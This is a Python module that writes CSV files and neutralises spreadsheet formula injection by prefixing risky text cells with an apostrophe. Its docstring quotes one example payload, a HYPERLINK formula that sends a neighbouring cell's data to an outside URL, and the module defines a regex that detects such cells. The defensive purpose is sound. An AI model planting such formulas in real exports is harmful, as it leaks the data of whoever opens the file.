"""CSV the hub writes for people to open in a spreadsheet, neutralised against formula injection.

Free text from deliveries (report texts, addresses and names as written) can start with `=`, `+`, `-` or `@` (or a
tab or carriage return), which Excel and LibreOffice read as a formula: `=HYPERLINK("http://...?"&A2, "klik")` sends
a neighbour's data away when clicked. Following OWASP's advice on CSV injection, such a text cell gets a leading
apostrophe: spreadsheets show the text as written, and a program reading the file sees one extra character at the
start of only those cells. Numbers, dates and other typed columns are left as they are. Every CSV writer of the hub
(`rgw query --format csv`, `rgw address resolve`, `rgw link`) goes through `write_csv` here.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any, BinaryIO

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

FORMULA_START = r"^[=+\-@\t\r]"


def neutralise_formulas(table: pa.Table) -> pa.Table:
    """The table with every text cell that a spreadsheet would run as a formula prefixed with an apostrophe."""
    for i, field in enumerate(table.schema):
        column = table.column(i)
        if pa.types.is_dictionary(field.type) and pa.types.is_string(field.type.value_type):
            column = column.cast(pa.string())
        elif not (pa.types.is_string(field.type) or pa.types.is_large_string(field.type)):
            continue
        risky = pc.fill_null(pc.match_substring_regex(column, FORMULA_START), False)
        quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column, "")
        table = table.set_column(i, field.name, pc.if_else(risky, quoted, column))
    return table


def write_csv(table: pa.Table, sink: Path | BinaryIO | Any) -> None:
    """Write `table` as CSV (pyarrow's dialect: ',' and '"') with formulas neutralised."""
    pacsv.write_csv(neutralise_formulas(table), sink)
